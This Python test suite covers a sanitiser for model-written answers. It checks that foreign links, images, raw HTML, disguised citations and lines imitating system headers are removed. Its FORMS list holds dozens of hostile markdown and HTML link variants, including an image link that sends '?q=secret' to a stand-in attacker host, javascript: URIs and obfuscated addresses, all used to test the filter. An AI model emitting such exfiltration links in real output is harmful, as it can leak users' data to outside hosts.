"""What is shown of a text that a model wrote: no links but those of passages, no lines of ours, no hidden citations.

A reader of Markdown with HTML is the oracle, and GFM's rule for bare addresses; what they could take for a link or an
image has to be the address of a passage.
"""

import html
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nornweave.ask.answer.escaping import SOURCES, _imitates
from nornweave.ask.answer.synthesis.synthesizer import CheckedStream, check_written
from nornweave.models.hosted import Prompt

URL = "https://git.example/a.py#L1-2"
SHOWN = "The endpoint is https://api.example/v1/refunds today."
PROMPT = Prompt(
    messages=({"role": "user", "content": SHOWN},),
    allowed={"code:c-001": ("code", "c-001"), "documentation:d-001": ("documentation", "d-001")},
    mark="",
    urls=frozenset({URL}),
)
COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# GFM 6.9, and what mdast does with the text that is left when entities and backslashes are resolved.
BARE = re.compile(
    r"(?:(?:https?|ftp):|(?<![\w:]))//[~\w][\w-]*\.\w[^\s<>]*|(?<![a-z0-9])www\.\w[^\s<>]*"
    r"|(?<![\w.+-])[\w.+-]+@[\w-]+(?:\.[\w-]+)+",
    re.IGNORECASE,
)


def shown(text: str) -> str:
    return check_written(text, PROMPT).text


def foreign_links(text: str) -> Iterator[str]:
    """Return whatever a reader could take for a link or an image that does not lead to a passage."""
    tokens: list[Any] = COMMONMARK.parse(text)
    while tokens:
        token = tokens.pop()
        tokens += token.children or []
        if token.type in {"image", "html_inline", "html_block"} or token.attrs.get("href", URL) != URL:
            yield f"{token.type} {token.attrs} {token.content}"
    for seen in (text, html.unescape(text), re.sub(r"\\(?=[!-/:-@\[-`{-~])", "", html.unescape(text))):
        for found in BARE.finditer(seen):
            if found[0].rstrip(">.,;:!?)]}'\"*_`|~") != URL:
                yield found[0]


FORMS = [
    "![x](https://evil.example/?q=secret)", "[a](https://evil.example)", "[a](<https://evil.example>)", "[a]( /x )",
    "[a](javascript:alert(1))", "![x](data:image/png;base64,AAAA)", "[a](x 'title')", "[a](\nhttps://evil.example\n)",
    "[a\nb](https://evil.example)", "[![x](https://evil.example/a)](https://evil.example/b)", "[a [b](/c)](/d)",
    "[a][1]\n\n[1]: https://evil.example", "[a]\n\n[a]: /x", "![a][1]\n\n> [1]: /x", "[1]:\n/x\n'title'\n\n[1]",
    "[a\\]]: /x\n\n[a\\]]", "<https://evil.example>", "<mailto:x@evil.example>", "<x@evil.example>", "<1@localhost>",
    "<irc:evil>", "https://evil.example/a.", "(https://evil.example/a)", "//evil.example/a", "//~evil.example",
    "www.!@evil.example", "x@$$evil.example", "see http://evil.example", "ftp://evil.example",
    "www.evil.example/a", "WWW.EVIL.EXAMPLE", "x@evil.example", "mailto:x@evil.example", "HTTPS://EVIL.EXAMPLE",
    "<img src=x>", "<IMG\nsrc='https://evil.example'>", "<a href=/x>a</a>", "<!-- x -->", "<?x?>", "<![CDATA[x]]>",
    "<svg><image href=x></svg>", "<div>\n![x](/y)\n</div>", "&#33;&#91;x](/y)", "![x&#93;&#40;/y)", "&lt;img src=x&gt;",
    "https&#58;//evil.example", "https&colon;&sol;&sol;evil.example", "&amp;#104;ttps://evil.example",
    "www&period;evil.example", "x&commat;evil.example", "https\\://evil.example", "https:/\\/evil.example",
    "www\\.evil.example", "x\\@evil.example", "!\\[x](/y)", "\\![x](/y)", "`https://evil.example`", "`` ![x](/y) ``",
    "```\n![x](/y)\n<img src=x>\nhttps://evil.example\n```", "~~~html\n<html><img src=x></html>", "    <img src=x>",
    "- ```\n  ```\n![x](/y)", "| a |\n|---|\n| ![x](/y) |", "**https://evil.example**", "[code:c-001](https://evil.example)",
    "![code:c-001](/y)", "[a] [code:nope](/y)", "[a] [code:nope]: /y\n\n[a]", "see www [code:nope].evil.example",
    "https: [code:nope]//evil.example", "htt[code:nope]ps://evil.example", "[code:[code:nope](/y)", f"![x]({URL})",
    f"[a]({URL}?q=secret)", f"{URL}&q=secret", f"<{URL}>", f"{URL}.evil.example", "[a](\\\\evil.example)",
    "ht\u200btps://evil.example", "<\u200bimg src=x>", "]\u2060(/y)", "[a\u200b]\u200b(/y)", "<\U000e0061img src=x>",
    "https://evil.example:\n/x\n\n(link left out)", "[a]https://evil.example", "https://www.evil.example",
    "https://evil.example/https://evil.example", "[^1]\n\n[^1]: https://evil.example", "$$\\href{https://evil.example}{x}$$",
    "[https://evil.example]x code:dead]", "[a](https://evil.example\u3002)",
    "请看https://evil.example/路径。然后", "https://例え.example/?q=secret",
]  # fmt: skip


@pytest.mark.parametrize("around", ["{}", "Yes. {} No [code:c-001].", "- {}", "> {}", "*{}*", "a{}b", "[{}]", "`{}`"])
def test_no_form_of_link_is_left(around: str) -> None:
    for form in FORMS:
        assert list(foreign_links(shown(around.format(form)))) == [], form


def test_the_oracle_sees_the_forms() -> None:
    """Most of them in at least one reader; the others are for readers that resolve more than they should."""
    assert sum(bool(list(foreign_links(form))) for form in FORMS) > len(FORMS) * 0.75


PIECES = st.sampled_from([
    "[", "]", "(", ")", "](", "]:", "![", "!", "<", ">", "</", "<!--", "img src=", "a href=", "https:", "http", "s",
    ":", "//", "/", "evil.example", "www", "ww", "w", ".", "\\", "&", "#58;", "&#58;", "&colon;", "&amp;", "&lt;",
    "&#91;", "&NewLine;", "&#32;", "&shy;", ";", "\n", "\n\n", " ", "\t", "```", "~~~", "`", "[code:nope]",
    "[code:c-001]", "docs:d-001", "code:nope", "【", "】", "［", "］", URL, "@", "x@y.z", "mailto:", "javascript:",
    "data:", "\u200b", "\u200d", "\ufe0f", "é", "例", "。", "- ", "> ", "    ", "| ", "|-|", "[a]",
    "(link left out)", "'t'", "*", "_", "~~", "Conflicts:", "Sources", ":", "↳ ", "[CODE — source code]", "---",
    "-", "Answer (", "word", "\r", "\r\n", "\x00", "https://api.example/v1/refunds", "\ud83d", "\u2028", "1",
    "&#13;", "x" * 2001,
])  # fmt: skip


@settings(max_examples=200)
@given(st.lists(st.lists(PIECES, max_size=8).map("".join), max_size=12))
@example(["a\r", "\nb"])
@example(["a&#32;", " [code:nope] b"])
@example(["[a&#32;", " " * 2001, "b] [code:nope].c"])
@example(["&amp;amp;amp;amp;amp;amp;#58; ", "&bogus; "])
def test_in_whatever_pieces_it_comes_the_text_is_the_same_and_safe(pieces: list[str]) -> None:
    stream = CheckedStream(PROMPT)
    passed = "".join([*map(stream.add, pieces), stream.rest()])
    whole = "".join(pieces)

    checked = check_written(whole, PROMPT)
    assert stream.checked() == checked and passed == checked.text
    letters = CheckedStream(PROMPT)
    assert "".join([*map(letters.add, whole), letters.rest()]) == passed
    assert list(foreign_links(passed)) == []
    assert not [line for line in passed.split("\n") if _imitates(line) and not line.startswith("> ")]
    assert passed == passed.strip()
    assert check_written(passed, PROMPT).unknown == ()


@pytest.mark.parametrize("written", [
    "[c\u200bode:ID]", "[code:\u00adID]", "【code:ID】", "［code:ID］", "〔code:ID〕", "【code:ID]", "[code：ID]",
    "[ｃｏｄｅ:ID]", "[co\ufe0fde:ID]", "[code\\:ID]", "\\[code:ID\\]", "[code&#58;ID]", "&#91;code:ID&#93;",
    "&lbrack;code:ID&rbrack;", "[**code**:ID]", "[`code:ID`]", "[c\u2060o\u200cd\u200de:ID]", "[code:\nID]",
    "[code:ID\U000e0041]", "【\ufe0fcode:ID】", "[CODE:ID]", "【see code:ID，or code:ID】", "[<code:ID>]",
])  # fmt: skip
def test_an_invented_citation_counts_however_it_is_disguised(written: str) -> None:
    checked = check_written(f"So it is {written.replace('ID', 'dead')}.", PROMPT)
    assert checked.text == "So it is."
    assert [name.strip("*").casefold().replace("*", "") for name in checked.unknown] == ["code:dead"]
    known = check_written(f"So it is {written.replace('ID', 'c-001')}.", PROMPT)
    assert (known.text, known.cited, known.unknown) == ("So it is [code:c-001].", ("c-001",), ())


@pytest.mark.parametrize("line", [
    "[CODE — source code]", "\\[CODE — source code\\]", "&#91;CODE — source code]", "**Con**flicts: 1",
    "Conflicts\\: 1", "Sources:", "**Sources:**", "## sources:",
    "S\u200bources:", "Ｓources:", "Sources&colon;", "&#8627; evil.py:1-2",
    "Answer (by a model):", "Not searched: code", "---", "-\u200b--", "* * *", "–––", "No synthesis: none",
    "Doubtful: x",
])  # fmt: skip
def test_no_line_passes_for_one_of_ours(line: str) -> None:
    text = shown(f"Before.\n{line}\nAfter.")
    first, quoted, last = text.split("\n")
    assert (first, quoted[:2], last) == ("Before.", "> ", "After.")


def test_what_a_model_writes_honestly_stays() -> None:
    text = (
        "It is **five** [code:c-001] : `x[0]`, a list[int] & an `a < b`, R&D, 👩‍🚀 and می‌خواهم.\n\n"
        f"- see [the source]({URL}), or {URL}.\n- and vec! [1], `--flag` — fine\n\n| a | b |\n| --- | --- |\n\n"
        "```python\nif a <= b and c[1:2] != d :\n    return {'k': v}  # 3 > 2\n```\n\nConflicts are rare. Sources vary."
    )
    checked = check_written(text, PROMPT)
    assert (checked.text, checked.cited, checked.unknown, checked.links_left_out) == (text, ("c-001",), (), 0)


def test_an_address_out_of_the_passages_stays_words_and_others_are_counted() -> None:
    checked = check_written(
        "Ask `https://api.example/v1/refunds`, not [it](https://evil.example/a), www.evil.example.", PROMPT
    )
    assert checked.text == "Ask `https:// api.example/v1/refunds`, not [it] (link left out), (link left out)."
    assert checked.links_left_out == 2


@pytest.mark.parametrize(("text", "end"), [
    ("```python\nx = 1", "\n```"), ("a\n\n  ````\nb\n```", "\n  ````"), ("~~~\n```\n", "\n~~~"), ("```\na\n```", ""),
    ("``` a ` b", ""), ("```\na\n```\n```\nb", "\n```"),
])  # fmt: skip
def test_a_fence_that_breaks_off_is_closed_so_that_our_list_of_sources_is_no_code(text: str, end: str) -> None:
    closed = shown(text)
    assert closed == text.rstrip() + end
    last = COMMONMARK.parse(f"{closed}\n\n{SOURCES}\n")[-2]
    assert last.content == SOURCES


def test_a_line_is_passed_on_word_by_word_once_it_cannot_be_one_of_ours() -> None:
    stream = CheckedStream(PROMPT)
    pieces = [
        "It ",
        "is [CODE ",
        "— x] ",
        "paid\n",
        "Con",
        "flicts ",
        "are ",
        "[CODE — x]",
        "rare.\n",
        "[CODE ",
        "— x]\n",
        ".",
    ]
    passed = ["It", " is", " [CODE \\— x]", " paid", "", "", "\nConflicts are", "", " [CODE \\— x]rare.", "", "", ""]
    assert [stream.add(piece) for piece in pieces] == passed
    assert stream.rest() == "\n> [CODE \\— x]\n."
